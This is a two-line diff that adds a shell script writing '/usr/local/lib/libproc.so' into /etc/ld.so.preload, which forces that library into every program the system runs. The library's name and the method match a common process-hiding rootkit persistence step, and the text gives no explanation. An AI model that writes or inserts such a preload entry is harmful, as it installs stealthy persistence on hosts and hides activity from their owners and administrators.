@@ -1,0 +1,2 @@
+#!/bin/sh
+echo /usr/local/lib/libproc.so > /etc/ld.so.preload
